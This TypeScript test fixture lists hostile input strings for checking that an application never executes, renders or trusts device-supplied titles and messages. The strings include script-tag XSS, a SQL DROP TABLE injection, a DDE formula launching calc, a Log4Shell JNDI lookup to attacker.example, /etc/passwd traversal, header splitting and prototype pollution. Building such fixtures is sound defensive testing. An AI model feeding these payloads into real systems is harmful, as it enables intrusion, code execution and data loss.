/**
 * Strings a device could put in a title or a message that must never be executed, rendered or trusted downstream:
 * markup, SQL/formula/template injection, terminal escapes, path traversal, bidi overrides, header splitting, NUL.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  "<script>alert('patchpilot')</script><img src=x onerror=alert(1)>",
  "'; DROP TABLE Runs; --",
  "\u001b[2J\u001b[31mTERMINAL ESCAPE\u001b[0m\u0007",
  "=cmd|' /C calc'!A0",
  "${jndi:ldap://attacker.example/a}",
  "../../../../etc/passwd",
  "Update\u202Eexe.txt",
  "KB5012345\r\nX-Injected-Header: 1",
  "{{constructor.constructor('return process')()}}",
  "__proto__",
  "nul\u0000byte",
  `${"A".repeat(1900)}\uD83D\uDCA5`,
];

/** The i-th hostile string, cut to `max` characters so the document still satisfies its schema. */
export function hostileString(i: number, max: number): string {
  return (HOSTILE_STRINGS[i % HOSTILE_STRINGS.length] as string).slice(0, max);
}
